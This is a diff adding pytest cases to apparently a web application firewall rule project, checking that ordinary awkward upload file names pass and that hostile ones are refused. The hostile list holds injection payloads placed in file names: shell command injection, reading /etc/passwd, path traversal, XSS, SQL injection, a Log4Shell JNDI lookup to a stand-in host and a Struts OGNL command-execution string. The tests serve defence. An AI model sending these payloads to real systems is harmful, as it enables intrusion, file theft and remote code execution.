@@ -154,3 +154,82 @@ def test_an_entry_ends_with_the_version_that_mends_it() -> None:
     profile = profiles.Profile(about="x", exclusions=[entry])
     assert list(profiles.updates_of(profile, "4.29.1")) == ["SecRuleRemoveById 942999"]
     assert list(profiles.updates_of(profile, "4.30.0")) == []
+
+
+NAMES = [
+    "O'Brien.pdf",
+    "R&D (final).pdf",
+    "a;b.txt",
+    "report (1) [draft] #2 - 50% off!.docx",
+    "C:\\fakepath\\x.png",
+    "отчёт за май; v2 (итог).xlsx",
+    "請求書 5月.pdf",
+    "select from menu.pdf",
+    "union and select committee.docx",
+    "$100 + 20.log",
+    "config.json (1)",
+    "version (2).docx",
+    "sleep (1).wav",
+    "alert (1).png",
+    "Exec(3).pdf",
+    "cat & dog.png",
+    "curl; wget | rm.md",
+    "rm -rf explained.pdf",
+    "Bob; DROP your expectations.mp3",
+    "Rock & Roll - Guns N' Roses - Sweet Child O' Mine.mp3",
+    "Who's Afraid of 'X' or Y? -- notes.txt",
+    "email <ann@example.com> re: order.eml",
+    "javascript: the good parts.pdf",
+    "${project.name}-1.0.jar",
+    "photos/2024/img 1.jpg",
+    "a=b&c=d.txt",
+    "Order_2024%2F11.pdf",
+    "index.php; old.txt",
+    "invoice #123 -- paid.pdf",
+]
+"""Names that people and programs give files."""
+
+ATTACKS_IN_NAMES = [
+    "; rm -rf /",
+    "a.jpg;id;",
+    "`id`.jpg",
+    "$(id).png",
+    "a.png|cat /etc/passwd",
+    "||ping -c 10 127.0.0.1||.png",
+    "<img src=x onerror=alert(1)>",
+    "'><svg onload=alert(1)>.png",
+    "1' or '1'='1",
+    "x' union select password from users -- .txt",
+    "';waitfor delay '0:0:5'--.pdf",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "x.php%00.png",
+    "x.asp;.jpg",
+    "shell.php::$DATA",
+    "{{7*7}}.png",
+    "${jndi:ldap://e.example/a}.txt",
+    "%{(#_='multipart/form-data').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
+]
+"""Attacks on what stores, shows or converts a file under its name."""
+
+
+def _upload(name: str) -> dict[str, str]:
+    escaped = name.replace("\\", "\\\\") if ":" not in name[:2] else name
+    disposition = f'Content-Disposition: form-data; name="file"; filename="{escaped}"'
+    body = f"--b1\r\n{disposition}\r\nContent-Type: application/octet-stream\r\n\r\nabc\r\n--b1--\r\n"
+    return {"type": "multipart/form-data; boundary=b1", "body": body}
+
+
+@crs
+@pytest.mark.parametrize("name", NAMES)
+def test_names_of_uploads_pass(name: str, sets: Path) -> None:
+    """Words, quotes, brackets, signs and any script are ordinary in the name of a file."""
+    assert refused(_engine(sets, "api"), _upload(name)) == ""
+
+
+@crs
+@pytest.mark.parametrize("name", ATTACKS_IN_NAMES)
+def test_attacks_in_names_of_uploads_are_found(name: str, sets: Path) -> None:
+    """What would break out of a path, a command, a page or a query where the name is put."""
+    assert refused(_engine(sets, "api"), _upload(name))
